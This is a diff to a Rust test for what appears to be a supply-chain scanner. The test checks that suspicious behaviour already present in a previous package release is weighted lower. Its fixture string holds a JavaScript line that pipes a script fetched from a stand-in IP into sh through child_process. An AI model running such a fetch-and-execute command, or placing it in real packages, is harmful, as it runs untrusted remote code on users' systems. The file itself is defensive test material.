@@ -93,8 +93,9 @@ fn code_that_grew_manifold_is_noted() {
 fn what_the_release_before_did_as_well_weighs_less() {
     let acts =
         "index.js\nconst cp = require('child_process');\ncp.exec('curl -s http://192.0.2.1/x.sh | sh')\n";
-    let always =
-        trustmill_scan::scan(&job(&format!("=== {acts}=== previous!/{acts}"), Context::default())).unwrap();
+    let before = "=== previous!/package.json\n{\"name\": \"demo\", \"version\": \"1.0.0\"}\n";
+    let both = format!("=== {acts}=== previous!/{acts}{before}");
+    let always = trustmill_scan::scan(&job(&both, Context::default())).unwrap();
     let alone = trustmill_scan::scan(&job(&format!("=== {acts}"), Context::default())).unwrap();
     let weight = |findings: &[Finding]| findings.iter().map(|finding| finding.weight).max().unwrap();
     assert!(weight(&always.findings) < weight(&alone.findings));
